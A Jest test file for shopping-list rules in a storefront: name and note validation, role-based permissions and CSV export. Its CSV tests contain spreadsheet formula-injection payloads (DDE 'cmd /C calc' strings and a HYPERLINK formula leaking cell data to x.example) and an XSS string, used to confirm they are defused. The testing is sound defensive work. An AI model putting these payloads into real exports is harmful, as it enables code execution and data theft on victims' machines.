/** @jest-environment node */
/** The rules of saved shopping lists. */
import {
  judgeListName,
  judgeListNote,
  LIST_NAME_MAX,
  listFileName,
  listToCsv,
  mayEditList,
  mayKeepLists,
  mayViewList,
  type ListViewer,
} from '../../../src/domain/lists/shoppingLists';
import { parseSheet } from '../../../src/domain/quickOrder/quickOrderSheet';
import { expectMessage } from '../expectMessage';

describe('judgeListName', () => {
  it('trims what is typed', () => {
    expect(judgeListName('  Kadıköy şantiyesi aylık  ')).toEqual({
      ok: true,
      text: 'Kadıköy şantiyesi aylık',
    });
  });
  it.each<[string, string, string, string]>([
    ['blank', '   ', 'lists.nameRequired', 'Liste adı girmelisiniz.'],
    [
      'too long',
      'ş'.repeat(LIST_NAME_MAX + 1),
      'lists.nameTooLong',
      'Liste adı en fazla 60 karakter olabilir.',
    ],
    ['a newline', 'Aylık\nliste', 'lists.nameInvalid', 'Liste adında görünmeyen karakterler bulunmamalıdır.'],
    [
      'a zero-width space',
      'Ay\u200blık',
      'lists.nameInvalid',
      'Liste adında görünmeyen karakterler bulunmamalıdır.',
    ],
  ])('refuses %s', (_case, typed, key, text) => {
    const judged = judgeListName(typed);
    expect(judged.ok).toBe(false);
    if (!judged.ok) expectMessage(judged.message, key, text);
  });
  it('counts characters as the user sees them (60 Turkish letters or emoji fit)', () => {
    expect(judgeListName('ğ'.repeat(60)).ok).toBe(true);
    expect(judgeListName('📦'.repeat(60)).ok).toBe(true);
  });
});

describe('judgeListNote', () => {
  it('takes an empty note and trims', () => {
    expect(judgeListNote('   ')).toEqual({ ok: true, text: '' });
    expect(judgeListNote(' B blok ')).toEqual({ ok: true, text: 'B blok' });
  });
  it('refuses 201 characters and a tab', () => {
    const long = judgeListNote('x'.repeat(201));
    if (!long.ok) expectMessage(long.message, 'lists.noteTooLong', 'Not en fazla 200 karakter olabilir.');
    expect(long.ok).toBe(false);
    expect(judgeListNote('a\tb').ok).toBe(false);
  });
});

describe('who keeps, sees and changes a list', () => {
  const buyer: ListViewer = { id: 7, role: 'satinalma', admin: false };
  const other: ListViewer = { id: 8, role: 'onaylayici', admin: false };
  const admin: ListViewer = { id: 1, role: 'yonetici', admin: false };
  const viewer: ListViewer = { id: 9, role: 'izleyici', admin: false };
  const visitor: ListViewer = { id: null, role: null, admin: false };
  /** A customer of a backend without company accounts: no role, every customer's right. */
  const customer: ListViewer = { id: 7, role: null, admin: false };
  const storeAdmin: ListViewer = { id: 1, role: null, admin: true };
  const privateList = { ownerId: 7, shared: false };
  const sharedList = { ownerId: 7, shared: true };

  it('lets users with a cart keep lists, and a customer without company accounts; not a viewer, a visitor or the store administrator', () => {
    expect([buyer, other, admin, viewer, visitor, customer, storeAdmin].map(mayKeepLists)).toEqual([
      true,
      true,
      true,
      false,
      false,
      true,
      false,
    ]);
  });
  it('shows a private list to its owner only, a shared one to the company', () => {
    expect([buyer, other, admin, viewer].map((v) => mayViewList(v, privateList))).toEqual([
      true,
      false,
      false,
      false,
    ]);
    expect([buyer, other, admin, viewer].map((v) => mayViewList(v, sharedList))).toEqual([
      true,
      true,
      true,
      true,
    ]);
    expect(mayViewList(visitor, sharedList)).toBe(false);
  });
  it('lets the owner change a list, the Yönetici a shared one; a viewer nothing', () => {
    expect([buyer, other, admin, viewer].map((v) => mayEditList(v, privateList))).toEqual([
      true,
      false,
      false,
      false,
    ]);
    expect([buyer, other, admin, viewer].map((v) => mayEditList(v, sharedList))).toEqual([
      true,
      false,
      true,
      false,
    ]);
    // A viewer who once owned a list (their role changed) may no longer change it.
    expect(mayEditList({ id: 7, role: 'izleyici', admin: false }, privateList)).toBe(false);
    // Without company accounts the customer changes their own lists.
    expect(mayEditList(customer, privateList)).toBe(true);
    expect(mayEditList(storeAdmin, sharedList)).toBe(false);
  });
});

describe('CSV export', () => {
  const lines = [
    { code: 'VK-1001', quantity: 40, unit: 'ADET' },
    { code: 'A;B', quantity: 2, unit: 'KOLİ' },
    { code: '=HYPERLINK("x")', quantity: 1, unit: '' },
  ];
  it('writes a header and code;quantity;unit per line, quoted where needed, formulas defused', () => {
    expect(listToCsv(lines)).toBe(
      'Kod;Miktar;Birim\r\nVK-1001;40;ADET\r\n"A;B";2;KOLİ\r\n"\'=HYPERLINK(""x"")";1;\r\n',
    );
  });
  it('reads back through the quick order pad’s sheet parser, header skipped', () => {
    const parsed = parseSheet(listToCsv([lines[0]!, { code: 'HES-3X2.5', quantity: 3, unit: 'KANGAL' }]));
    expect(parsed.headerSkipped).toBe(true);
    expect(parsed.rows).toEqual([
      { code: 'VK-1001', quantity: '40', unit: 'ADET' },
      { code: 'HES-3X2.5', quantity: '3', unit: 'KANGAL' },
    ]);
  });
  /** The code's cell of a one-line list. */
  const cellOf = (code: string) =>
    listToCsv([{ code, quantity: 1, unit: 'ADET' }]).slice(
      'Kod;Miktar;Birim\r\n'.length,
      -';1;ADET\r\n'.length,
    );

  it.each([
    ["=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ["+cmd|' /C calc'!A0", `"'+cmd|' /C calc'!A0"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["+2+3+cmd|' /C calc'!A0", `"'+2+3+cmd|' /C calc'!A0"`],
    ['-1+1', `"'-1+1"`],
    ["@SUM(1+9)*cmd|' /C calc'!A0", `"'@SUM(1+9)*cmd|' /C calc'!A0"`],
    [
      '=HYPERLINK("http://x.example/?leak="&A1,"Tıkla")',
      `"'=HYPERLINK(""http://x.example/?leak=""&A1,""Tıkla"")"`,
    ],
    ['\t=1+2', `"'\t=1+2"`],
    ['\r=1+2', `"'\r=1+2"`],
    ['-', `"'-"`],
    ['-5e3', `"'-5e3"`],
  ])('defuses the formula %j: an apostrophe first, quoted', (code, cell) => {
    expect(cellOf(code)).toBe(cell);
  });

  it.each(['-5', '-2,5', '-1.234,56', '+7', '40', 'VK-1001'])(
    'leaves %j as it is (a number, or no formula)',
    (code) => {
      expect(cellOf(code)).toBe(code);
    },
  );

  it.each([
    ["$& $` $' $1", "$& $` $' $1"],
    ['<script>alert(1)</script>', '<script>alert(1)</script>'],
    ['A\u0000B', 'A\u0000B'],
    ['A\nB', '"A\nB"'],
    ['A\r\nB', '"A\r\nB"'],
    ['"-1"', '"""-1"""'],
  ])('writes the hostile text %j as text', (code, cell) => {
    expect(cellOf(code)).toBe(cell);
  });

  it('reads a defused cell back without its apostrophe', () => {
    const codes = ['-2+3', '=X', '+1-1', '@A', "'quoted", 'VK-1001'];
    const parsed = parseSheet(listToCsv(codes.map((code) => ({ code, quantity: 2, unit: 'ADET' }))));
    expect(parsed.rows.map((row) => row.code)).toEqual(codes);
  });

  it('names the file after the list', () => {
    expect(listFileName('Kadıköy Şantiyesi – Aylık')).toBe('kadikoy-santiyesi-aylik.csv');
    expect(listFileName('!!!')).toBe('liste.csv');
  });
});
